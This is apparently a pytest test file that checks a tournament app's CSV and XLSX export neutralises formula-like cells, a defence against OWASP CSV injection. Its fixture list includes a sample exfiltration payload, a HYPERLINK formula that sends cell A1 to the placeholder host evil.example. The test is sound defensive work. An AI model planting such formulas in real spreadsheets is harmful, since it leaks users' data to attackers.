"""Text cells that a spreadsheet would evaluate are neutralised (OWASP CSV injection)."""

from __future__ import annotations

import openpyxl
import pytest

from tournament.words.spreadsheet_cells import protect_xlsx_cell, spreadsheet_text

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1)', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cells_that_would_be_formulas_get_a_quote(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Anna Berg", "O'Neil", "a=b", "", "3-1 win"])
def test_plain_text_is_left_alone(text):
    assert spreadsheet_text(text) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_xlsx_cells_stay_strings(tmp_path, text):
    wb = openpyxl.Workbook()
    cell = wb.active.cell(1, 1)
    cell.value = text
    protect_xlsx_cell(cell)
    wb.save(tmp_path / "x.xlsx")
    back = openpyxl.load_workbook(tmp_path / "x.xlsx").active.cell(1, 1)
    # (XML turns a carriage return into a line feed; the cell stays text either way.)
    assert back.data_type == "s" and back.quotePrefix
    assert back.value.replace("\n", "\r") == text.replace("\n", "\r")
